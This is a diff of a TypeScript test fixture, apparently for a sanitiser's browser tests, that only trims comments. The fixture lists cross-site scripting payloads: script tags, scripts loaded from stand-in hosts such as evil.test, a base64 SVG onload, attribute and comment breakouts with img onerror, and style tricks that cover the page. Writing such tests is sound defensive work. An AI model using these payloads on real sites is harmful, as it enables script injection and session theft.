@@ -1,10 +1,9 @@
-/** Every payload tries to run this script; a browser test looks for the effect. */
+/** A browser test looks for the effect of this script. */
 const RUN = "window.caught=1;alert(1)";
 const B64 = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`).toString("base64");
 
 /** Post texts that try to run a script, load from outside, break out or cover the page. */
 export const hostileTexts: string[] = [
-  // Scripts: plain, split, nested, misspelled, unclosed.
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
   `<script/x>${RUN}</script >`,
@@ -78,7 +77,7 @@ export const hostileTexts: string[] = [
   `<p style="color:red&quot; onmouseover=&quot;${RUN}">x</p>`,
   `<p style="font-size:400pt;line-height:99">x</p>`,
   `<p id="main" class="btn btn-primary" name="csrf">x</p>`,
-  // Texts that close their container: attribute, comment, title, textarea, JSON in a script.
+  // Texts that close their container, such as an attribute or a comment.
   `"><img src=x onerror=${RUN}>`,
   `'><img src=x onerror=${RUN}>`,
   `--><img src=x onerror=${RUN}><!--`,
@@ -105,6 +104,5 @@ export const hostileNicknames = [
   `</script><script src=//e.te>`,
 ];
 
-/** The text as a title: no control characters, trimmed. */
 export const titleOf = (text: string) => text.replace(/[\u0000-\u001f]/g, " ").trim();
 export const hostileTitles = hostileTexts.map(titleOf).filter((text) => text.length <= 200);
